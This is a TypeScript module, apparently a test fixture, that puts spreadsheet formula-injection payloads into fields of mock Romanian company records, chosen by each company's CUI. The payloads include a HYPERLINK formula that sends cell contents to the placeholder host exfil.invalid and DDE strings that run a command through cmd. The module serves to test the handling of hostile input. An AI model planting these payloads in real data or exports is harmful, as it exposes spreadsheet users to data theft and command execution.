/**
 * The setting `formulaText`: company text that a spreadsheet would take for a formula, as a careless
 * or hostile data source could send it. Three companies in four get one such field, chosen by the
 * CUI so that every answer about a company agrees: CUI mod 4 = 0 its name, 1 its address, 2 its
 * status, 3 nothing; the trigger goes round the list below with ⌊CUI / 4⌋. The payloads are the
 * classic ones (a link that sends a cell away, a DDE command), each followed by the true text.
 */
import type { Company } from "./profile";

/** What a field is made to begin with, one per trigger. */
export const FORMULA_PREFIXES = [
  '=HYPERLINK("https://exfil.invalid/?"&A1,"Detalii") ',
  "+cmd|' /C calc'!A0 ",
  "-2+3+cmd|' /C calc'!A0 ",
  "@SUM(1+9)*cmd|' /C calc'!A0 ",
  "\t=1+1 ",
  "\r=2+2 ",
] as const;

/** The field of a company that carries a formula trigger under `formulaText`, and its prefix; null for none. */
export function formulaTextOf(cui: number): { field: "denumire" | "adresa" | "stare"; prefix: string } | null {
  const field = (["denumire", "adresa", "stare", null] as const)[cui % 4];
  return field === null ? null : { field, prefix: FORMULA_PREFIXES[Math.floor(cui / 4) % FORMULA_PREFIXES.length] };
}

/** The company with its formula text, when it has one. */
export function withFormulaText(c: Company): Company {
  const f = formulaTextOf(c.cui);
  return f ? ({ ...c, [f.field]: f.prefix + c[f.field] } as Company) : c;
}
